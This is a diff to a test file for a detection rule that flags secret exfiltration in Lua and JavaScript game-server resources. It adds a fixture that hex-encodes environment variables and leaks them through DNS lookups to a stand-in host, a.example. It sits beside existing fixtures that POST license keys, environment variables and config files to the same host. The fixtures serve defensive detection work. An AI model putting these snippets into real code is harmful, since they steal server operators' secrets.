@@ -46,6 +46,9 @@ export const secretAndHttp = defineRule({
       lua(`local key = GetConvar('sv_licenseKey', '')
 ^PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { key } }))`),
       js(`^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ env: process.env }) })`),
+      js(`const dns = require('dns')
+const parts = Buffer.from(JSON.stringify(process.env)).toString('hex').match(/.{1,60}/g)
+^for (const part of parts) dns.resolve(part + '.a.example', log)`),
       js(`const request = require('https').request(options)
 ^request.end(require('fs').readFileSync('server.cfg'))`),
       lua(`local names = { 'sv_hostname', 'sv_licenseKey' }
@@ -61,6 +64,7 @@ const text = require('fs').readFileSync(find(wanted), 'utf8')
 ^fetch('https://a.example', { method: 'POST', body: text })`),
     ],
     notFound: [
+      js(`require('dns').lookup(process.env.DB_HOST, connect)`),
       lua(`local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')
 PerformHttpRequest('https://a.example', print, 'POST', text)`),
       lua(`local key = GetConvar('sv_licenseKey', '')
